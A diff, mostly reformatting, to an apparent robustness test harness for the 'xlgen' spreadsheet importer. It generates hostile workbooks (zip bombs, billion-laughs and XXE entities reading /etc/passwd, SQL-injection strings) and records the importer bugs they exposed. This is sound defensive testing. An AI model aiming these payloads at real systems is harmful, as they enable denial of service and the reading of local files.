@@ -118,10 +118,19 @@ class TrialResult:
     killed_writing: int = 0  # build runs killed while a workbook was being written
 
     unexplained: int = 0  # failed runs not explained by a known bug
-    covers: set[str] = field(default_factory=set)  # bugs (fixed or open) some variant of the case found
+    covers: set[str] = field(
+        default_factory=set
+    )  # bugs (fixed or open) some variant of the case found
 
-    def add(self, outcome: str, *, failure: str | None = None, seconds: float = 0.0,
-            rss_mb: float = 0.0, bug: str | None = None) -> None:
+    def add(
+        self,
+        outcome: str,
+        *,
+        failure: str | None = None,
+        seconds: float = 0.0,
+        rss_mb: float = 0.0,
+        bug: str | None = None,
+    ) -> None:
         self.runs += 1
         self.outcomes[outcome] += 1
         if failure:
@@ -186,8 +195,15 @@ def child_env(db: Path | None = None, **extra: str) -> dict[str, str]:
 class Child:
     """A started `xlgen` process whose stdout/stderr go to temporary files."""
 
-    def __init__(self, args: list[str], *, db: Path | None = None, cwd: Path | None = None,
-                 memory: int = MEMORY_CEILING, start_at: float = 0.0) -> None:
+    def __init__(
+        self,
+        args: list[str],
+        *,
+        db: Path | None = None,
+        cwd: Path | None = None,
+        memory: int = MEMORY_CEILING,
+        start_at: float = 0.0,
+    ) -> None:
         import tempfile
 
         self._out = tempfile.TemporaryFile()
@@ -198,8 +214,11 @@ class Child:
         self.started = time.monotonic()
         self.proc = subprocess.Popen(
             [sys.executable, "-c", _ENTRY, str(memory), repr(start_at), *args],
-            stdin=subprocess.DEVNULL, stdout=self._out, stderr=self._err,
-            env=child_env(db, RELIABILITY_PEAK_FILE=peak), cwd=str(cwd or ROOT),
+            stdin=subprocess.DEVNULL,
+            stdout=self._out,
+            stderr=self._err,
+            env=child_env(db, RELIABILITY_PEAK_FILE=peak),
+            cwd=str(cwd or ROOT),
         )
 
     def kill(self) -> None:
@@ -236,8 +255,14 @@ class Child:
         return Run(code, out, err, seconds, rss_mb, timed_out.is_set())
 
 
-def run_xlgen(args: list[str], *, db: Path | None = None, timeout: float = CLI_TIMEOUT,
-              memory: int = MEMORY_CEILING, cwd: Path | None = None) -> Run:
+def run_xlgen(
+    args: list[str],
+    *,
+    db: Path | None = None,
+    timeout: float = CLI_TIMEOUT,
+    memory: int = MEMORY_CEILING,
+    cwd: Path | None = None,
+) -> Run:
     return Child(args, db=db, memory=memory, cwd=cwd).wait(timeout)
 
 
@@ -303,7 +328,9 @@ class Bench:
         with Store.open(db) as store:
             result = build(KEY, store=store, out_dir=base / "out")
             doc = store.load(KEY)
-            records = [(i.key, i.actual, i.note or "", i.unit) for _, _, _, i in doc.indicator_rows()]
+            records = [
+                (i.key, i.actual, i.note or "", i.unit) for _, _, _, i in doc.indicator_rows()
+            ]
         assert not db.with_name(db.name + "-wal").exists(), "the store was not closed cleanly"
         return cls(root, db, result.path, records)
 
@@ -353,15 +380,22 @@ class Big:
     tail: bytes = b""
 
 
-def rewrite_zip(src: bytes, dst: Path, *, replace: dict[str, Any] | None = None,
-                drop: Iterable[str] = (), extra: dict[str, Any] | None = None,
-                level: int = 6) -> None:
+def rewrite_zip(
+    src: bytes,
+    dst: Path,
+    *,
+    replace: dict[str, Any] | None = None,
+    drop: Iterable[str] = (),
+    extra: dict[str, Any] | None = None,
+    level: int = 6,
+) -> None:
     """Copy a zip, replacing parts by bytes, a function of the old bytes, or a `Big`."""
     replace = replace or {}
     drop = set(drop)
-    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(
-        dst, "w", zipfile.ZIP_DEFLATED, compresslevel=level
-    ) as zout:
+    with (
+        zipfile.ZipFile(io.BytesIO(src)) as zin,
+        zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zout,
+    ):
         items = [(i.filename, None) for i in zin.infolist() if i.filename not in drop]
         items += list((extra or {}).items())
         for name, value in items:
@@ -396,17 +430,17 @@ def falsify_sizes(path: Path, part: str, declared: int, *, fix_crc: bool) -> Non
         head = zf.open(part).read(declared) if fix_crc else b""
     crc = zlib.crc32(head) if fix_crc else None
     off = info.header_offset
-    assert data[off:off + 4] == b"PK\x03\x04"
-    data[off + 22:off + 26] = struct.pack("<I", declared)
+    assert data[off : off + 4] == b"PK\x03\x04"
+    data[off + 22 : off + 26] = struct.pack("<I", declared)
     if crc is not None:
-        data[off + 14:off + 18] = struct.pack("<I", crc)
+        data[off + 14 : off + 18] = struct.pack("<I", crc)
     i = 0
     while (i := data.find(b"PK\x01\x02", i)) >= 0:
-        n = struct.unpack("<H", data[i + 28:i + 30])[0]
-        if bytes(data[i + 46:i + 46 + n]) == part.encode():
-            data[i + 24:i + 28] = struct.pack("<I", declared)
+        n = struct.unpack("<H", data[i + 28 : i + 30])[0]
+        if bytes(data[i + 46 : i + 46 + n]) == part.encode():
+            data[i + 24 : i + 28] = struct.pack("<I", declared)
             if crc is not None:
-                data[i + 16:i + 20] = struct.pack("<I", crc)
+                data[i + 16 : i + 20] = struct.pack("<I", crc)
         i += 4
     path.write_bytes(bytes(data))
 
@@ -422,8 +456,8 @@ def _prolog_split(xml: bytes) -> tuple[bytes, bytes]:
 LAUGHS = (
     b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
     + b"".join(
-        b'<!ENTITY lol%d "%s">' % (n, b"".join(b"&lol%s;" % (b"" if n == 2 else str(n - 1).encode())
-                                              for _ in range(10)))
+        b'<!ENTITY lol%d "%s">'
+        % (n, b"".join(b"&lol%s;" % (b"" if n == 2 else str(n - 1).encode()) for _ in range(10)))
         for n in range(2, 10)
     )
     + b"]>"
@@ -469,9 +503,18 @@ def doctype(attack: str) -> tuple[bytes, bytes | None]:
     url = f"http://127.0.0.1:{listener().port}/evil".encode()
     return {
         "billion laughs": (LAUGHS, b"&lol9;"),
-        "external entity (file)": (b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;"),
-        "external entity (http)": (b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "' + url + b'.xml">]>', b"&xxe;"),
-        "parameter entity": (b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext;]>', None),
+        "external entity (file)": (
+            b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+            b"&xxe;",
+        ),
+        "external entity (http)": (
+            b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "' + url + b'.xml">]>',
+            b"&xxe;",
+        ),
+        "parameter entity": (
+            b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext;]>',
+            None,
+        ),
         "external DTD (http)": (b'<!DOCTYPE worksheet SYSTEM "' + url + b'.dtd">', None),
     }[attack]
 
@@ -487,19 +530,30 @@ def with_doctype(xml: bytes, doctype: bytes, entity: bytes | None, pad: int) -> 
         elif b"<sheetData>" in rest:
             rest = rest.replace(
                 b"<sheetData>",
-                b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>' + entity + b"</t></is></c></row>", 1)
+                b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
+                + entity
+                + b"</t></is></c></row>",
+                1,
+            )
         else:
             m = re.search(rb"<[A-Za-z][^>]*?>", rest)
             if m and not m.group(0).endswith(b"/>"):
-                rest = rest[:m.end()] + entity + rest[m.end():]
+                rest = rest[: m.end()] + entity + rest[m.end() :]
     return decl + comment + doctype + rest
 
 
-def edit_workbook(src: Path, dst: Path, *, actual: dict[str, Any] | None = None,
-                  note: dict[str, Any] | None = None, note_formula: dict[str, str] | None = None,
-                  keys: dict[str, Any] | None = None, meta: dict[str, Any] | None = None,
-                  meta_keys: dict[str, str] | None = None,
-                  action: Callable[[Any], None] | None = None) -> None:
+def edit_workbook(
+    src: Path,
+    dst: Path,
+    *,
+    actual: dict[str, Any] | None = None,
+    note: dict[str, Any] | None = None,
+    note_formula: dict[str, str] | None = None,
+    keys: dict[str, Any] | None = None,
+    meta: dict[str, Any] | None = None,
+    meta_keys: dict[str, str] | None = None,
+    action: Callable[[Any], None] | None = None,
+) -> None:
     """Edit a built workbook as staff (or an attacker) would, with openpyxl.
 
     actual / note: record key → new value (a note is written as a text cell even when it
@@ -582,11 +636,17 @@ def _xml_parts(data: bytes) -> list[str]:
 
 def _part_of(variant: str, data: bytes) -> str:
     parts = sheet_parts(data)
-    return {"input sheet": parts[INPUT_SHEET], "_xlgen sheet": parts[META_SHEET],
-            "sharedStrings": "xl/sharedStrings.xml", "styles": "xl/styles.xml",
-            "workbook.xml": "xl/workbook.xml", "[Content_Types]": "[Content_Types].xml",
-            "core properties": "docProps/core.xml", "workbook rels": "xl/_rels/workbook.xml.rels",
-            "root rels": "_rels/.rels"}[variant]
+    return {
+        "input sheet": parts[INPUT_SHEET],
+        "_xlgen sheet": parts[META_SHEET],
+        "sharedStrings": "xl/sharedStrings.xml",
+        "styles": "xl/styles.xml",
+        "workbook.xml": "xl/workbook.xml",
+        "[Content_Types]": "[Content_Types].xml",
+        "core properties": "docProps/core.xml",
+        "workbook rels": "xl/_rels/workbook.xml.rels",
+        "root rels": "_rels/.rels",
+    }[variant]
 
 
 def _make_bomb(rng, bench, dst, variant):
@@ -594,8 +654,12 @@ def _make_bomb(rng, bench, dst, variant):
     part = _part_of(variant, data)
     size = rng.randint(120, 400) << 20
     head, _ = _prolog_split(zipfile.ZipFile(io.BytesIO(data)).read(part))
-    rewrite_zip(data, dst, replace={part: Big(head + b"<x>", rng.choice([b" ", b"0", b"<a/>"]), size, b"</x>")},
-                level=9)
+    rewrite_zip(
+        data,
+        dst,
+        replace={part: Big(head + b"<x>", rng.choice([b" ", b"0", b"<a/>"]), size, b"</x>")},
+        level=9,
+    )
 
 
 def _make_ratio_bomb(rng, bench, dst, variant):
@@ -606,7 +670,9 @@ def _make_ratio_bomb(rng, bench, dst, variant):
     size = rng.randint(2, 60) << 20
     # Valid XML: the original part with a huge run of whitespace inside the root element.
     root_end = rest.index(b">") + 1
-    rewrite_zip(data, dst, replace={part: Big(head + rest[:root_end], b" ", size, rest[root_end:])}, level=9)
+    rewrite_zip(
+        data, dst, replace={part: Big(head + rest[:root_end], b" ", size, rest[root_end:])}, level=9
+    )
 
 
 def _make_lying_bomb(rng, bench, dst, variant):
@@ -616,7 +682,9 @@ def _make_lying_bomb(rng, bench, dst, variant):
     old = zipfile.ZipFile(io.BytesIO(data)).read(part)
     head, rest = _prolog_split(old)
     root_end = rest.index(b">") + 1
-    rewrite_zip(data, dst, replace={part: Big(head + rest[:root_end], b" ", size, rest[root_end:])}, level=9)
+    rewrite_zip(
+        data, dst, replace={part: Big(head + rest[:root_end], b" ", size, rest[root_end:])}, level=9
+    )
     falsify_sizes(dst, part, rng.randint(50_000, 900_000), fix_crc=variant.endswith("CRC too"))
 
 
@@ -640,8 +708,10 @@ def _make_pi_flood(rng, bench, dst, variant):
     size = int(size.split()[0]) * 1000
     table = bytes(b"abcdefghijklmnop qrstuvwxyz"[k % 27] for k in range(256))
     noise = rng.randbytes(size).translate(table)
-    flood = b"<?".join(noise[k:k + rng.randint(0, 8)] for k in range(0, size, 8))
-    rewrite_zip(data, dst, replace={part: lambda old: _prolog_split(old)[0] + flood + _prolog_split(old)[1]})
+    flood = b"<?".join(noise[k : k + rng.randint(0, 8)] for k in range(0, size, 8))
+    rewrite_zip(
+        data, dst, replace={part: lambda old: _prolog_split(old)[0] + flood + _prolog_split(old)[1]}
+    )
 
 
 def _make_truncated(rng, bench, dst, variant):
@@ -662,11 +732,20 @@ def _make_not_workbook(rng, bench, dst, variant):
             for i in range(rng.randint(1, 5)):
                 zf.writestr(f"문서{i}.txt", "안녕하세요 " * rng.randint(1, 1000))
         elif variant == "Word document":
-            zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
+            zf.writestr(
+                "[Content_Types].xml",
+                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+            )
             zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="x"/>')
         elif variant == "workbook.xml without sheets":
-            zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
-            zf.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>')
+            zf.writestr(
+                "[Content_Types].xml",
+                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+            )
+            zf.writestr(
+                "xl/workbook.xml",
+                '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
+            )
         elif variant == "empty zip":
             pass
 
@@ -675,7 +754,9 @@ def _make_not_zip(rng, bench, dst, variant):
     if variant == "Excel 97-2003 (.xls) renamed":
         dst.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(rng.randint(100, 5000)))
     elif variant == "CSV renamed":
-        dst.write_text("부서,사업,지표,실적\n총무과,사업,지표,12\n" * rng.randint(1, 50), encoding="utf-8")
+        dst.write_text(
+            "부서,사업,지표,실적\n총무과,사업,지표,12\n" * rng.randint(1, 50), encoding="utf-8"
+        )
     elif variant == "random bytes":
         dst.write_bytes(rng.randbytes(rng.randint(0, 50_000)))
     else:  # "PK header, garbage after"
@@ -713,23 +794,31 @@ def _make_malformed_xml(rng, bench, dst, variant):
 
 def _make_million_rows(rng, bench, dst, variant):
     data = bench.workbook_bytes
-    part = _part_of("input sheet" if variant != "_xlgen sheet: a million records" else "_xlgen sheet", data)
+    part = _part_of(
+        "input sheet" if variant != "_xlgen sheet: a million records" else "_xlgen sheet", data
+    )
     rows = 1_000_000
 
     def grow(old: bytes) -> bytes:
         head, rest = old.split(b"<sheetData>", 1)
         body, tail = rest.split(b"</sheetData>", 1)
         last = max(int(n) for n in re.findall(rb'<row r="(\d+)"', body))
-        head = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:O%d"/>' % (last + rows), head)
+        head = re.sub(
+            rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:O%d"/>' % (last + rows), head
+        )
         if variant == "input sheet: a million tiny rows":
+
             def row(n: int) -> bytes:
                 return b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n)
         elif variant == "input sheet: a million empty <row/> elements":
+
             def row(n: int) -> bytes:
                 return b'<row r="%d"/>' % n
         else:
+
             def row(n: int) -> bytes:
                 return b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>I9</t></is></c></row>' % (n, n)
+
         extra = b"".join(row(n) for n in range(last + 1, last + rows + 1))
         return head + b"<sheetData>" + body + extra + b"</sheetData>" + tail
 
@@ -751,18 +840,29 @@ def _make_wide(rng, bench, dst, variant):
 
 
 def _make_sheet_renamed(rng, bench, dst, variant):
-    new = rng.choice(["부서별현황", "Sheet3", "Ⅲ 부서별현황 (2)", "ⅲ 부서별현황", "_XLGEN", "xlgen"])
+    new = rng.choice(
+        ["부서별현황", "Sheet3", "Ⅲ 부서별현황 (2)", "ⅲ 부서별현황", "_XLGEN", "xlgen"]
+    )
     data = bench.workbook_bytes
     if variant.startswith("input sheet renamed"):
         old = INPUT_SHEET
     else:
         old = META_SHEET
     if variant.endswith("(in workbook.xml)"):
-        rewrite_zip(data, dst, replace={"xl/workbook.xml": lambda b: b.replace(
-            f'name="{old}"'.encode(), f'name="{new}"'.encode(), 1)})
+        rewrite_zip(
+            data,
+            dst,
+            replace={
+                "xl/workbook.xml": lambda b: b.replace(
+                    f'name="{old}"'.encode(), f'name="{new}"'.encode(), 1
+                )
+            },
+        )
     else:
+
         def rename(wb):
             wb[old].title = new
+
         edit_workbook(bench.workbook, dst, action=rename)
 
 
@@ -774,22 +874,44 @@ def _make_sheet_deleted(rng, bench, dst, variant):
         part = parts[old]
         book = zipfile.ZipFile(io.BytesIO(data)).read("xl/workbook.xml")
         rid = re.search(rb'<sheet name="' + old.encode() + rb'"[^>]*r:id="([^"]+)"', book).group(1)
-        rewrite_zip(data, dst, drop=[part], replace={
-            "xl/workbook.xml": lambda b: re.sub(rb'<sheet name="' + re.escape(old.encode()) + rb'"[^>]*/>', b"", b),
-            "xl/_rels/workbook.xml.rels": lambda b: re.sub(rb'<Relationship Id="' + rid + rb'"[^>]*/>', b"", b),
-            "[Content_Types].xml": lambda b: re.sub(rb'<Override PartName="/' + re.escape(part.encode()) + rb'"[^>]*/>', b"", b),
-        })
+        rewrite_zip(
+            data,
+            dst,
+            drop=[part],
+            replace={
+                "xl/workbook.xml": lambda b: re.sub(
+                    rb'<sheet name="' + re.escape(old.encode()) + rb'"[^>]*/>', b"", b
+                ),
+                "xl/_rels/workbook.xml.rels": lambda b: re.sub(
+                    rb'<Relationship Id="' + rid + rb'"[^>]*/>', b"", b
+                ),
+                "[Content_Types].xml": lambda b: re.sub(
+                    rb'<Override PartName="/' + re.escape(part.encode()) + rb'"[^>]*/>', b"", b
+                ),
+            },
+        )
     else:
+
         def delete(wb):
             del wb[old]
+
         edit_workbook(bench.workbook, dst, action=delete)
 
 
 def _bad_key(rng: random.Random) -> Any:
-    return rng.choice([
-        f"I{rng.randint(5000, 99999):04d}", f"I{rng.randint(245, 4999):04d}", "I0000", "X0001",
-        "가나다", "' OR 1=1 --", "I" + "9" * rng.randint(20, 4000), rng.randint(1, 10**9), 3.5,
-    ])
+    return rng.choice(
+        [
+            f"I{rng.randint(5000, 99999):04d}",
+            f"I{rng.randint(245, 4999):04d}",
+            "I0000",
+            "X0001",
+            "가나다",
+            "' OR 1=1 --",
+            "I" + "9" * rng.randint(20, 4000),
+            rng.randint(1, 10**9),
+            3.5,
+        ]
+    )
 
 
 def _make_bad_keys(rng, bench, dst, variant):
@@ -805,7 +927,9 @@ def _make_bad_keys(rng, bench, dst, variant):
 
 def _make_meta_fields(rng, bench, dst, variant):
     meta = {
-        "document key not in the store": {"key": rng.choice(["2018", "nope", "2019 ", "'; DROP TABLE documents; --"])},
+        "document key not in the store": {
+            "key": rng.choice(["2018", "nope", "2019 ", "'; DROP TABLE documents; --"])
+        },
         "revision newer than the store": {"revision": rng.randint(2, 10**6)},
         "unknown format": {"format": rng.choice(["xlgen-workbook/2", "", "other"])},
         "kind plan": {"kind": "plan"},
@@ -816,61 +940,167 @@ def _make_meta_fields(rng, bench, dst, variant):
 
 
 HOSTILE_CASES: list[HostileCase] = [
-    HostileCase("zip bomb: one part of 120–400 MB, compressed to < 1 MB",
-                ["input sheet", "_xlgen sheet", "sharedStrings", "styles"], _make_bomb, slow=True),
-    HostileCase("zip bomb: a 2–60 MB part at a compression ratio > 200",
-                ["input sheet", "_xlgen sheet", "sharedStrings", "styles"], _make_ratio_bomb),
-    HostileCase("zip bomb with falsified sizes in the zip headers (150–300 MB part declared < 1 MB)",
-                ["input sheet", "input sheet, CRC too", "_xlgen sheet", "_xlgen sheet, CRC too",
-                 "sharedStrings", "sharedStrings, CRC too"], _make_lying_bomb, slow=True,
-),
-    HostileCase("XML entity expansion (billion laughs) in a part",
-                [f"billion laughs: {p}, {pad}" for pad in ("DTD at the top", "DTD after a 4 KB comment")
-                 for p in ("input sheet", "_xlgen sheet", "sharedStrings", "workbook.xml", "styles",
-                           "[Content_Types]", "core properties", "workbook rels", "root rels")],
-                _make_doctype, known_bug=_dtd_bug),
-    HostileCase("external entities (XXE: file:///etc/passwd or http; parameter entity; external DTD)",
-                [f"{a}: {p}, {pad}" for pad in ("DTD at the top", "DTD after a 4 KB comment")
-                 for a in ("external entity (file)", "external entity (http)", "parameter entity",
-                           "external DTD (http)")
-                 for p in ("input sheet", "_xlgen sheet", "sharedStrings", "workbook.xml", "core properties")],
-                _make_doctype, known_bug=_dtd_bug),
-    HostileCase("a prolog flooded with \"<?\" (no \"?>\") in a part of 300 KB–1 MB",
-                ["styles, 300 KB", "sharedStrings, 500 KB", "input sheet, 990 KB"], _make_pi_flood,
-                known_bug=lambda variant: "B5", slow=True, timeout=TIME_BOUND + 5, max_runs=3),
-    HostileCase("truncated zip",
-                ["cut anywhere", "cut in the central directory", "only the last bytes missing"], _make_truncated),
-    HostileCase("a valid zip that is not a workbook",
-                ["text files", "Word document", "workbook.xml without sheets", "empty zip"], _make_not_workbook),
-    HostileCase("not a zip: .xls, CSV or random bytes named .xlsx",
-                ["Excel 97-2003 (.xls) renamed", "CSV renamed", "random bytes", "PK header, garbage after"],
-                _make_not_zip),
-    HostileCase("corrupted compressed data inside a part (CRC / deflate errors)",
-                ["input sheet", "_xlgen sheet", "sharedStrings", "workbook.xml"], _make_corrupt_deflate,
-                known_bug={"input sheet": "B1", "_xlgen sheet": "B1", "sharedStrings": "B2",
-                           "workbook.xml": "B2"}),
-    HostileCase("malformed XML in a part of a valid zip",
-                ["input sheet", "_xlgen sheet", "sharedStrings", "workbook.xml"], _make_malformed_xml,
-                known_bug={"input sheet": "B1", "_xlgen sheet": "B1"}),
-    HostileCase("a million used rows",
-                ["input sheet: a million tiny rows", "input sheet: a million empty <row/> elements",
-                 "_xlgen sheet: a million records"], _make_million_rows, slow=True,
-                may_accept=frozenset({"input sheet: a million empty <row/> elements"})),
-    HostileCase("used range up to column XFD / row 1,048,576 (one far cell)",
-                ["input sheet", "_xlgen sheet"], _make_wide,
-                known_bug={"input sheet": "B3", "_xlgen sheet": "B3"},
-                may_accept=frozenset({"input sheet", "_xlgen sheet"})),
-    HostileCase("input or hidden sheet renamed",
-                ["input sheet renamed (in Excel)", "input sheet renamed (in workbook.xml)",
-                 "_xlgen renamed (in Excel)", "_xlgen renamed (in workbook.xml)"], _make_sheet_renamed),
-    HostileCase("input sheet or hidden _xlgen sheet deleted",
-                ["input sheet deleted (in Excel)", "input sheet deleted (zip parts removed)",
-                 "_xlgen deleted (in Excel)", "_xlgen deleted (zip parts removed)"], _make_sheet_deleted),
-    HostileCase("hidden keys pointing at records that do not exist",
-                ["in the input sheet", "in the input sheet and in _xlgen"], _make_bad_keys),
-    HostileCase("hidden _xlgen fields pointing elsewhere",
-                ["document key not in the store", "revision newer than the store", "unknown format",
-                 "kind plan", "another organisation"], _make_meta_fields),
+    HostileCase(
+        "zip bomb: one part of 120–400 MB, compressed to < 1 MB",
+        ["input sheet", "_xlgen sheet", "sharedStrings", "styles"],
+        _make_bomb,
+        slow=True,
+    ),
+    HostileCase(
+        "zip bomb: a 2–60 MB part at a compression ratio > 200",
+        ["input sheet", "_xlgen sheet", "sharedStrings", "styles"],
+        _make_ratio_bomb,
+    ),
+    HostileCase(
+        "zip bomb with falsified sizes in the zip headers (150–300 MB part declared < 1 MB)",
+        [
+            "input sheet",
+            "input sheet, CRC too",
+            "_xlgen sheet",
+            "_xlgen sheet, CRC too",
+            "sharedStrings",
+            "sharedStrings, CRC too",
+        ],
+        _make_lying_bomb,
+        slow=True,
+    ),
+    HostileCase(
+        "XML entity expansion (billion laughs) in a part",
+        [
+            f"billion laughs: {p}, {pad}"
+            for pad in ("DTD at the top", "DTD after a 4 KB comment")
+            for p in (
+                "input sheet",
+                "_xlgen sheet",
+                "sharedStrings",
+                "workbook.xml",
+                "styles",
+                "[Content_Types]",
+                "core properties",
+                "workbook rels",
+                "root rels",
+            )
+        ],
+        _make_doctype,
+        known_bug=_dtd_bug,
+    ),
+    HostileCase(
+        "external entities (XXE: file:///etc/passwd or http; parameter entity; external DTD)",
+        [
+            f"{a}: {p}, {pad}"
+            for pad in ("DTD at the top", "DTD after a 4 KB comment")
+            for a in (
+                "external entity (file)",
+                "external entity (http)",
+                "parameter entity",
+                "external DTD (http)",
+            )
+            for p in (
+                "input sheet",
+                "_xlgen sheet",
+                "sharedStrings",
+                "workbook.xml",
+                "core properties",
+            )
+        ],
+        _make_doctype,
+        known_bug=_dtd_bug,
+    ),
+    HostileCase(
+        'a prolog flooded with "<?" (no "?>") in a part of 300 KB–1 MB',
+        ["styles, 300 KB", "sharedStrings, 500 KB", "input sheet, 990 KB"],
+        _make_pi_flood,
+        known_bug=lambda variant: "B5",
+        slow=True,
+        timeout=TIME_BOUND + 5,
+        max_runs=3,
+    ),
+    HostileCase(
+        "truncated zip",
+        ["cut anywhere", "cut in the central directory", "only the last bytes missing"],
+        _make_truncated,
+    ),
+    HostileCase(
+        "a valid zip that is not a workbook",
+        ["text files", "Word document", "workbook.xml without sheets", "empty zip"],
+        _make_not_workbook,
+    ),
+    HostileCase(
+        "not a zip: .xls, CSV or random bytes named .xlsx",
+        ["Excel 97-2003 (.xls) renamed", "CSV renamed", "random bytes", "PK header, garbage after"],
+        _make_not_zip,
+    ),
+    HostileCase(
+        "corrupted compressed data inside a part (CRC / deflate errors)",
+        ["input sheet", "_xlgen sheet", "sharedStrings", "workbook.xml"],
+        _make_corrupt_deflate,
+        known_bug={
+            "input sheet": "B1",
+            "_xlgen sheet": "B1",
+            "sharedStrings": "B2",
+            "workbook.xml": "B2",
+        },
+    ),
+    HostileCase(
+        "malformed XML in a part of a valid zip",
+        ["input sheet", "_xlgen sheet", "sharedStrings", "workbook.xml"],
+        _make_malformed_xml,
+        known_bug={"input sheet": "B1", "_xlgen sheet": "B1"},
+    ),
+    HostileCase(
+        "a million used rows",
+        [
+            "input sheet: a million tiny rows",
+            "input sheet: a million empty <row/> elements",
+            "_xlgen sheet: a million records",
+        ],
+        _make_million_rows,
+        slow=True,
+        may_accept=frozenset({"input sheet: a million empty <row/> elements"}),
+    ),
+    HostileCase(
+        "used range up to column XFD / row 1,048,576 (one far cell)",
+        ["input sheet", "_xlgen sheet"],
+        _make_wide,
+        known_bug={"input sheet": "B3", "_xlgen sheet": "B3"},
+        may_accept=frozenset({"input sheet", "_xlgen sheet"}),
+    ),
+    HostileCase(
+        "input or hidden sheet renamed",
+        [
+            "input sheet renamed (in Excel)",
+            "input sheet renamed (in workbook.xml)",
+            "_xlgen renamed (in Excel)",
+            "_xlgen renamed (in workbook.xml)",
+        ],
+        _make_sheet_renamed,
+    ),
+    HostileCase(
+        "input sheet or hidden _xlgen sheet deleted",
+        [
+            "input sheet deleted (in Excel)",
+            "input sheet deleted (zip parts removed)",
+            "_xlgen deleted (in Excel)",
+            "_xlgen deleted (zip parts removed)",
+        ],
+        _make_sheet_deleted,
+    ),
+    HostileCase(
+        "hidden keys pointing at records that do not exist",
+        ["in the input sheet", "in the input sheet and in _xlgen"],
+        _make_bad_keys,
+    ),
+    HostileCase(
+        "hidden _xlgen fields pointing elsewhere",
+        [
+            "document key not in the store",
+            "revision newer than the store",
+            "unknown format",
+            "kind plan",
+            "another organisation",
+        ],
+        _make_meta_fields,
+    ),
 ]
 
 BUG_TITLES = {
@@ -878,55 +1108,62 @@ BUG_TITLES = {
     "B2": "damaged deflate data in the first 4 KB of a part → exit 2 instead of 1",
     "B3": "a huge declared used range (A1:XFD1048576) → unbounded memory",
     "B4": "a DOCTYPE behind a > 4 KB comment escapes the DTD check",
-    "B5": "the prolog scan added for B4 is super-quadratic: a few hundred KB of \"<?\" hang the import",
+    "B5": 'the prolog scan added for B4 is super-quadratic: a few hundred KB of "<?" hang the import',
 }
 # Bugs these trials found that have been fixed since; a failure of their cases now counts as a
 # regression (unexplained), not as a known bug.
 FIXED_IN = {"B1": "18039b8", "B2": "18039b8", "B3": "18039b8", "B4": "18039b8", "B5": "9693f28"}
 BUGS = {
     "B1": "A worksheet part (the input sheet or _xlgen) that cannot be read to its end — not "
-          "well-formed XML (truncated, garbage inside), or compressed data damaged past its first "
-          "4 KB (deflate error, CRC mismatch) — in an otherwise valid zip: `xlgen import` exits 2 "
-          "with \"예상하지 못한 문제가 생겼습니다 (ParseError: ... / error: Error -3 while "
-          "decompressing data ...)\" instead of refusing with exit 1. openpyxl (read-only) parses "
-          "worksheets lazily, in `importer._sheet_rows`, which runs outside the try/except of "
-          "`read_workbook` that turns openpyxl errors into InputError. Nothing is written.",
+    "well-formed XML (truncated, garbage inside), or compressed data damaged past its first "
+    "4 KB (deflate error, CRC mismatch) — in an otherwise valid zip: `xlgen import` exits 2 "
+    'with "예상하지 못한 문제가 생겼습니다 (ParseError: ... / error: Error -3 while '
+    'decompressing data ...)" instead of refusing with exit 1. openpyxl (read-only) parses '
+    "worksheets lazily, in `importer._sheet_rows`, which runs outside the try/except of "
+    "`read_workbook` that turns openpyxl errors into InputError. Nothing is written.",
     "B2": "A part (any .xml/.rels, e.g. sharedStrings.xml or workbook.xml) whose deflate stream is "
-          "damaged within its first 4 KB: `xlgen import` exits 2 with \"예상하지 못한 문제가 생겼습니다 "
-          "(error: Error -3 while decompressing data: ...)\". `check_container` reads the first "
-          "4 KB of every XML part to look for a DTD but catches only zipfile.BadZipFile, not "
-          "zlib.error. Nothing is written.",
+    'damaged within its first 4 KB: `xlgen import` exits 2 with "예상하지 못한 문제가 생겼습니다 '
+    '(error: Error -3 while decompressing data: ...)". `check_container` reads the first '
+    "4 KB of every XML part to look for a DTD but catches only zipfile.BadZipFile, not "
+    "zlib.error. Nothing is written.",
     "B3": "A worksheet whose <dimension> claims a huge used range (e.g. A1:XFD1048576 plus one far "
-          "cell; the file is 75 KB): openpyxl's read-only reader pads every row to the full width "
-          "and yields every missing row, and `_sheet_rows` turns each into a list of 16,384 "
-          "values; MAX_ROWS (200,000) would be reached only after ~26 GB. Under the 1 GiB ceiling "
-          "the import dies with MemoryError (exit 2); without a ceiling it exhausts the machine. "
-          "Neither the width nor the declared dimension is bounded. Nothing is written.",
+    "cell; the file is 75 KB): openpyxl's read-only reader pads every row to the full width "
+    "and yields every missing row, and `_sheet_rows` turns each into a list of 16,384 "
+    "values; MAX_ROWS (200,000) would be reached only after ~26 GB. Under the 1 GiB ceiling "
+    "the import dies with MemoryError (exit 2); without a ceiling it exhausts the machine. "
+    "Neither the width nor the declared dimension is bounded. Nothing is written.",
